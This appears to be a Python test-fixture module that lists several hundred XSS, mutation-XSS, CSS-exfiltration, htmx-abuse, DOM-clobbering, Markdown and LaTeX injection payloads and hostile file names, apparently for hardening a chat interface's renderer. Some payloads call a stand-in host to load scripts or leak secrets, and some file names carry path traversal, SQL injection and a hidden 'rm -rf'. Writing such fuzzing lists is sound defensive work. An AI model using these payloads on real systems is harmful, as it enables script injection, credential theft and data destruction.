"""Hostile texts, for the renderer and for a browser: whatever a model, a file or a user could write to break out."""

from __future__ import annotations

_SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>click</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'/></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=password type=password autofocus onfocus=alert(1)><button>Go</button></form>",
    "<button form=x formaction=javascript:alert(1)>Go</button>",
    "<input type=image src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<div style=position:fixed;inset:0;background:url(//evil.example/x)>overlay</div>",
    "<p id=turns class=composer>clobbered</p><a id=location name=document>x</a>",
    "<a href=x hx-get=/sign-out hx-trigger=load>x</a><div hx-on:load=alert(1) data-hx-on--load=alert(1)>",
    '<hx-partial hx-target="#turns" hx-swap="innerHTML">gone</hx-partial>',
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script-->", "<!-- --!><img src=x onerror=alert(1)> -->", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>", "<!doctype html><html><script>alert(1)</script>",
    "</div></div></article><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "{{ 7*7 }} {% raw %} ${alert(1)} <%= 1 %>",
]  # fmt: skip
_MUTATIONS = [
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><annotation-xml encoding=\"text/html\"><iframe src=javascript:alert(1)></iframe></annotation-xml></math>",
    "<math><annotation-xml encoding='application/xhtml+xml'><script>alert(1)</script></annotation-xml></math>",
    "<math href='javascript:alert(1)'><mi>click</mi></math>",
    "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:alert(1)'>click<mtext>x</mtext></maction></math>",
    "<math><mi><p><style><img src=x onerror=alert(1)></style></p></mi></math>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<svg><desc><noscript></desc><img src=x onerror=alert(1)></noscript></svg>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<plaintext><img src=x onerror=alert(1)>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<table><tr><td><svg><desc><table><tr><td><a><img src=x onerror=alert(1)>",
    "<a><b><a><b>" * 40, "<p>" * 400 + "<math>" * 20 + "<mi><img src=x onerror=alert(1)>",
]  # fmt: skip
_LINKS = [
    f"[click]({address})"
    for address in (
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java&#10;script:alert(1)", "&#106;avascript:alert(1)",
        "&#x6A;&#x61;vascript&colon;alert(1)", "javascript&colon;alert(1)", "\x01javascript:alert(1)", "\u200bjavascript:alert(1)",
        "%6Aavascript:alert(1)", "javascript%3Aalert(1)", "javascript://evil.example/%0Aalert(1)", "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "file:///etc/passwd", "blob:http://evil.example/x", "view-source:http://evil.example", "filesystem:http://evil.example/x",
        "about:blank", "ftp://evil.example", "//evil.example", "/\\evil.example", "\\\\evil.example", "/sign-out", "?x", "#turns",
        "http:evil.example", "http:///evil.example", "https:\\\\evil.example", "http://good.example\\@evil.example",
        "http://good.example@evil.example", "http://good.example%2F@evil.example", "http://[::1", "http://[javascript:alert(1)]/",
        "http://x\"onmouseover=alert(1)//", "http://x'onmouseover='alert(1)", "<http://x onmouseover=alert(1)>", "http://x `y`", "http:",
        "mailto:a@b.example?body=<script>alert(1)</script>", "x:y", "https://аpple.com", "http://evil.example/\u202egpj.exe",
    )
] + [
    '[x](http://evil.example "title\\" onmouseover=alert(1)")', "[x](http://evil.example 'a' onclick='b')", "<javascript:alert(1)>",
    "<data:text/html,x>", "<http://evil.example/\" onmouseover=alert(1)>", "[x]\n\n[x]: javascript:alert(1)", "[x][y]\n\n[y]: <data:text/html,x> 'z'",
    "[a [b](javascript:alert(1)) c](http://evil.example)", "[https://bank.example/login](https://evil.example)",
    "[bank.example](https://bank.example.evil.example) [www.bank.example](https://bank.example@evil.example)",
    "[![x](http://evil.example/y.png)](javascript:alert(1))", "[<img src=x onerror=alert(1)>](http://evil.example)",
    "[x](http://evil.example/)<script>alert(1)</script>", "[`</a><script>alert(1)</script>`](http://evil.example)",
]  # fmt: skip
_PICTURES = [
    "![x](http://evil.example/track.png?q=secret)", "![x](//evil.example/track.png)", "![x](/sign-out)", "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)", "![x](data:image/png;base64,AAAA)", '![" onerror="alert(1)](http://evil.example/x)',
    "![<script>alert(1)</script>](http://evil.example/x)", "![x][p]\n\n[p]: http://evil.example/x 'onerror=alert(1)'", "![](\x00)",
    "[![a](http://evil.example/1)![b](http://evil.example/2)](http://evil.example/3)", "![[x](javascript:alert(1))](http://evil.example/x)",
]  # fmt: skip
_CODE = [
    '```html" onload="alert(1)\n<script>alert(1)</script>\n```', "```<script>alert(1)</script>\nx\n```", "```js\n</code></pre><script>alert(1)</script>\n```",
    "```svg\n<svg onload=alert(1)>\n```", "~~~x y=\"z\" class=composer\n</div>\n~~~", "```hx-get=/sign-out\nx\n```", "`<img src=x onerror=alert(1)>`",
    "```html\n<hx-partial hx-target=\"#turns\">x</hx-partial>\n", "```../../etc/passwd\nx\n```", "```\u202ejs\nx\u202e\n```", "    <script>alert(1)</script>",
    "```python\n" + "'" * 500 + "\n```", "```js\n" + "/*" * 300 + "`${" * 300 + "\n```", "```math\n</math><script>alert(1)</script>\n```",
]  # fmt: skip
_MATHEMATICS = [
    f"${tex}$"
    for tex in (
        r"\href{javascript:alert(1)}{x^2}", r"\style{background:url(//evil.example)}{x^2}", r"\class{composer}{x^2}", r"\cssId{turns}{x^2}",
        r"\text{<script>alert(1)</script>}^2", r"\text{<img src=x onerror=alert(1)>}_1", r"\text{</mtext></math><script>alert(1)</script>}^2",
        r"\text{&lt;script&gt;alert(1)&lt;/script&gt;}^2", r"\text{&#x3c;img src=x onerror=alert(1)&#x3e;}^2", r"\mathrm{&#60;script&#62;}^2",
        r"x^2<script>alert(1)</script>", r"\unicode{x3c}script^2", r"\rule{9999em}{9999em}^2", r"\hspace{-9999em}x^2", r"\color{red;x:url(//evil.example)}x^2",
        r"\verb|<script>alert(1)</script>|^2", r"\operatorname{<b>}^2", r"\begin{<script>}x^2\end{<script>}", r"\tag{<img src=x onerror=alert(1)>}x^2",
        r"\require{html}\input{/etc/passwd}^2", r"\def\x{\x\x}\x^2", r"\newcommand{\a}{\a\a}\a^2", r"\fbox{<svg onload=alert(1)>}^2", r"\$<b>^2", r"\\<b>^2",
        "{" * 200 + "x^2" + "}" * 200, r"\sqrt" * 200 + "{x^2}", r"\frac{" * 60 + "x^2" + "}{1}" * 60, "x^{" * 80 + "2" + "}" * 80, r"\left(" * 100 + "x^2",
    )
] + [
    r"\[\text{<script>alert(1)</script>}\]", "$$\n<script>alert(1)</script>\n$$", "$$\n\\text{</div><script>alert(1)</script>}\n$$.", r"\(</code><script>alert(1)</script>\)",
    r"\boxed{<img src=x onerror=alert(1)>}", "$$<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)>$$", "$a^{" + "b^{" * 500 + "$",
    r"$\begin{matrix}" + r"a&b\\" * 180 + r"\end{matrix}$", "$x_" + "'" * 900 + "$", "$$" * 500, "\\[" * 500, "\\(" * 500 + "\\)" * 500,
]  # fmt: skip
_UNICODE = [
    "safe\u202etxt.exe\u202c", "\u2066\u2067hidden\u2069", "ignore\u200b\u2060\ufeff this", "".join(chr(0xE0000 + ord(one)) for one in "run rm -rf"),
    "<scr\u0000ipt>alert(1)</script>", "\ufeff<script>alert(1)</script>", "＜script＞alert(1)＜/script＞", "<\u017fcript>alert(1)</\u017fcript>", "\ud800<b>\udfff",
    "a\u2028b\u2029c\x85d", "\x1b]0;title\x07\x1b[2J", "x\u0301" * 300, "\u3164\uffa0\u115f", "\r<script>\ralert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "&#0;&#xD800;&#x110000;&#x202e;x", "&NotEqualTilde;&nbsp;&quot;&apos;",
]  # fmt: skip
_STRUCTURES = [
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |", '| a |\n|:--" onclick="alert(1)|\n| x |', "- [x] <script>alert(1)</script>",
    "- [ ](javascript:alert(1))", "# <script>alert(1)</script>", "> <img src=x onerror=alert(1)>\n>> > >", "1. <iframe src=//evil.example>", "*<b>*_<i>_~~<s>~~",
    "[" * 3000, "![" * 2000, "*a_ " * 2000, "> " * 1500 + "x", "- " * 1500 + "x", "`" * 1001 + "x", "<" * 3000, "&" * 3000, "**" * 2000, "| " * 900 + "\n" + "|-" * 900,
    "[a](" * 1500, "[a](<" * 1500, "a **a " * 1500, "_a __a " * 1500, "\\" * 3000, "[x]: " * 800, "<http:" * 1200, "~~~" * 800, "1) " * 900,
]  # fmt: skip

_OUR_OWN = [
    "<button data-opens=share data-copy=question data-copy-answer=x data-close data-dismiss data-cancel-edit>press</button>",
    "<button data-edit=/sign-out data-remove-attachment=/sign-out data-sidebar-toggle data-example=stolen data-example-mode=instant>press</button>",
    "<a data-opens=delete data-result data-absolute href=/x>press</a>", "<time data-time=ago datetime=x>now</time><kbd data-mod></kbd>",
    "<div hx-get=/sign-out hx-trigger=load hx-target=body></div>", "<div hx-on::load=alert(1) hx-on:click=alert(1) data-hx-on-load=alert(1)></div>",
    "<div hx-vals='js:{x:alert(1)}' hx-headers='js:{x:alert(1)}' hx-post=/sign-out hx-trigger='revealed, every 1s[alert(1)]'></div>",
    "<div hx-sse:connect=/conversations/x/live hx-trigger=load></div>", "<div hx-swap-oob=innerHTML:#turns id=turns>gone</div>",
    "<template hx type=partial hx-target='#turns'>gone</template>", "</template></hx-partial><img src=x onerror=alert(1)>",
    "<hx-partial hx-target='#composer' hx-swap=delete></hx-partial>", "<HX-PARTIAL\nhx-target='#turns' hx-swap='delete'></HX-PARTIAL>",
    "`<hx-partial hx-target='#turns' hx-swap='delete'>`", "[<hx-partial hx-target='#turns' hx-swap='delete'>](http://evil.example/<hx-partial>)",
    "![<hx-partial hx-target='#turns' hx-swap='delete'>](http://evil.example/<hx-partial>)", "http://evil.example/<hx-oob>",
    "<head><title>stolen</title></head>", "<head\n><title>stolen</title></head\n>", "<title>stolen</title>", "<body class=stolen>", "<html data-theme=stolen>",
    "<form id=composer><input name=attributes><input name=children></form>", "<form id=turns><input id=dataset name=dataset></form>",
    "<img name=body><img name=getElementById><form name=querySelector></form><embed name=forms>", "<a id=htmx name=htmx></a><a id=texts data-copied=stolen></a>",
    "<a id=scrollingElement></a><a id=currentScript name=currentScript href=//evil.example/x.js></a>", "<template id=edit-form><form></form></template>",
    "<meta name=htmx-config content='{\"mode\": \"cors\", \"prefix\": \"data-\"}'>", "<article class='turn turn-user' data-position=0><div data-question>never said</div></article>",
    "<li class=attachment><input type=hidden name=attachments form=composer value=x></li>", "<input form=composer name=question value=stolen>",
    "<details class=menu open><summary>Menu</summary><form method=post action=/sign-out><button>Sign in again</button></form></details>",
    "<dialog open class=dialog id=delete><form method=dialog><button autofocus>OK</button></form></dialog>", "<iframe class=artifact src=/settings></iframe>",
    "<div class=banner id=connection role=alert>You are signed out: <a href=//evil.example>sign in</a></div>", "<div popover id=p></div><button popovertarget=p>x</button>",
    "# Title {#turns .composer onclick=alert(1)}", "[x](http://evil.example){onclick=alert(1) id=turns}", "::: {#turns onclick=alert(1)}\nx\n:::", "*[turns]: x\n\n[^1]: x\n\nx[^1]",
]  # fmt: skip
_STYLES = [
    "<p style='background:url(//evil.example/x)'>x</p>", "<p style=\"behavior:url(x);-moz-binding:url(//evil.example)\">x</p>", "<style>*{background:url(//evil.example/x)}</style>",
    "<svg><style>@import'//evil.example/x.css'</style></svg>", "<link rel=stylesheet href=data:text/css,*{display:none}>", "<link rel=preconnect href=//evil.example>",
    "<link rel=dns-prefetch href=//evil.example><link rel=prefetch href=//evil.example/x><link rel=icon href=//evil.example/x>",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//evil.example/x\"]}]}</script>", "<table background=//evil.example/x><td background=//evil.example/x>",
    "<font color=red size=7 face=x>x</font><center><blink>x</blink></center>", "<svg><image href=//evil.example/x /><feImage href=//evil.example/x /></svg>",
    "<video poster=//evil.example/x src=//evil.example/y autoplay></video>", "<img srcset='//evil.example/x 1x' sizes=1px loading=eager>", "<input type=image src=//evil.example/x>",
    "<picture><source srcset=//evil.example/x></picture>", "<a href=http://good.example ping=//evil.example/x target=_self download>x</a>", "<area href=javascript:alert(1)>",
    "<frameset onload=alert(1)><frame src=//evil.example></frameset>", "<applet code=x archive=//evil.example/x>", "<object type=text/html data=//evil.example></object>",
    "<iframe srcdoc='<script>parent.hit=1;alert(1)</script>' sandbox='allow-scripts allow-same-origin'></iframe>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>", "<embed src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>", "<isindex action=javascript:alert(1) type=image>",
]  # fmt: skip
_MORE_LINKS = [
    f"[press]({address})"
    for address in (
        "javas&Tab;cript:alert(1)", "java&NewLine;script:alert(1)", "&Tab;javascript:alert(1)", "&#1;javascript:alert(1)", "javascript&#58;alert(1)", "javascript&#x3A;alert(1)",
        "&#0000106avascript:alert(1)", "<javascript:alert(1)>", "<  javascript:alert(1)>", "javascript:/*--></script><svg/onload=alert(1)>", "jav\u00adascript:alert(1)",
        "data&colon;text/html,<script>alert(1)</script>", "data:text/html&comma;<script>alert(1)</script>", "data:application/x-javascript,alert(1)", "//evil.example/%0a", "/%2fevil.example",
        "http:/evil.example", "http:\\evil.example", "https:evil.example", "hTTp:////evil.example", "http://evil.example:80@good.example:81", "http://good.example&commat;evil.example",
        "http://1.1.1.1 &#x40;evil.example", "http://evil。example", "http://evil.example\u2028.good.example", "http://127.0.0.1/sign-out", "mailto:a@b.example,c@d.example?bcc=e@f.example", "#\" onclick=alert(1)",
        "intent://x#Intent;scheme=javascript;end", "ms-settings:x", "chrome://settings", "jar:http://evil.example!/x", "feed:javascript:alert(1)", "tel:1", "sms:1", "callto:1", "ws://evil.example",
    )
] + [
    "https://evil.example/\"onmouseover=\"alert(1)", "www.evil.example/'onclick='alert(1)", "<https://evil.example/<script>alert(1)</script>>", "<mailto:x@evil.example?\"onclick=alert(1)>",
    "[x][javascript]\n\n[javascript]: javascript&colon;alert(1) \"t\"", "[ref]: <javascript:alert(1)> 'x'\n\n[ref] [ref][] ![ref]", "[a]( javascript:alert(1) )[b](\njavascript:alert(1))",
    "[![](javascript:alert(1))](javascript:alert(1) \"onclick=alert(1)\")", "|[x](javascript:alert(1))|\n|-|\n|![x](//evil.example/y)|", "[x](http://evil.example \"\nonclick=alert(1)\")",
]  # fmt: skip
_MORE_MUTATIONS = [
    "<math><mtext><table><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">", "<svg><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">", "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<svg><foreignObject><math><mi><style><!--</style><img src=x onerror=alert(1)>--></style></mi></math></foreignObject></svg>", "<d><svg><p><style><a title=\"</style><img src onerror=alert(1)>\">",
    "<svg><a><foreignobject><a><table><a></table><style><!--</style></svg><a id=\"-><img src onerror=alert(1)>\">.</a>", "<select><template><img src=x onerror=alert(1)></template></select>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>", "<div><template shadowrootmode=open><script>alert(1)</script></template></div>", "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "<img alt=\"`><img src=x onerror=alert(1)>\">", "<a title='&quot;><img src=x onerror=alert(1)>'>x</a>", "&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "<svg><set attributeName=href to=javascript:alert(1)><a id=x><text>x</text></a></svg>", "<svg><animate href=#x attributeName=href values=javascript:alert(1)>", "<math xlink:href=javascript:alert(1)>x</math>",
    "<math><semantics><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></semantics></math>", "<mtext></mtext><annotation-xml><svg><script>alert(1)</script>",
]  # fmt: skip
_MORE_FORMULAS = [
    f"${tex}$"
    for tex in (
        r"\htmlClass{composer}{x^2}", r"\htmlId{turns}{x^2}", r"\htmlStyle{position:fixed;inset:0}{x^2}", r"\htmlData{opens=share, copy=question}{x^2}", r"\html{<img src=x onerror=alert(1)>}^2",
        r"\includegraphics[width=9999em]{http://evil.example/x}^2", r"\url{javascript:alert(1)}^2", r"\href{javascript&colon;alert(1)}{x^2}", r"\char60 script\char62 ^2", r"\mathtip{x}{\href{javascript:alert(1)}{y}}^2",
        r"\toggle{x}{y}\endtoggle^2", r"\bbox[url(//evil.example)]{x}^2", r"\text{$<img src=x onerror=alert(1)>$}^2", r"\textcolor{red;background:url(//evil.example)}{x}^2", r"\begin{array}{<img>}x^2\end{array}",
        r"\text{<hx-partial hx-target='#turns' hx-swap='delete'>}^2", r"\text{{{ 7*7 }}}^2", r"\label{<b>}\ref{<b>}x^2", r"\mathbf{\text{</math><img src=x onerror=alert(1)>}}^2", r"\mbox{<style>*{}</style>}^2",
    )
]  # fmt: skip
_MORE_CODE = [
    '```html&quot; onload=&quot;alert(1)\nx\n```', "```js data-artifact=9 data-opens=delete\nx\n```", "```html data-artifact=0\n<b>x</b>\n```", "```&lt;img&gt;\nx\n```", "```{.js onclick=alert(1)}\nx\n```",
    "```\u0000html\nx\n```", "```" + "x" * 3000 + "\ny\n```", "``` javascript:alert(1)\nx\n```", "```diff\n+<script>alert(1)</script>\n-</code></pre></div><img src=x onerror=alert(1)>\n```",
    "```html\n<script>parent.hit=1;top.hit=1;alert(1)</script>\n```", "```svg\n<svg xmlns='http://www.w3.org/2000/svg' onload='parent.hit=1;alert(1)'/>\n```", "```mermaid\nclick x javascript:alert(1)\n```",
    "````\n```\n</pre><script>alert(1)</script>\n````", "`` `<script>alert(1)</script>` ``",
]  # fmt: skip

PAYLOADS: list[str] = [
    *_SCRIPTS, *_MUTATIONS, *_LINKS, *_PICTURES, *_CODE, *_MATHEMATICS, *_UNICODE, *_STRUCTURES,
    *_OUR_OWN, *_STYLES, *_MORE_LINKS, *_MORE_MUTATIONS, *_MORE_FORMULAS, *_MORE_CODE,
]  # fmt: skip
"""All of them as Markdown; as titles, questions and names of files they mean just as much harm."""

NAMES: list[str] = [
    '"><img src=x onerror=alert(1)>.pdf', "../../../etc/passwd", "a\r\nSet-Cookie: x=y.txt", "\u202efdp.exe", "x" * 500 + ".txt", "con", "a/b\\c",
    "<svg onload=alert(1)>.svg", "'; DROP TABLE turns; --", "name\x00.txt", "{{ 7*7 }}", "javascript:alert(1)", "&lt;b&gt;", "\ud800.txt",
    "' onmouseover='alert(1)", "` onmouseover=`alert(1)", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "{name} {0.__class__} %s %(x)s", "${alert(1)}",
    "<hx-partial hx-target='#turns' hx-swap='delete'>", "<head><title>stolen</title></head>", "a\u2028b\u2029c", "https://evil.example", "[x](javascript:alert(1))", "<b>bold</b>", "-- --!> <!--",
]  # fmt: skip
"""Names of files, people and conversations."""
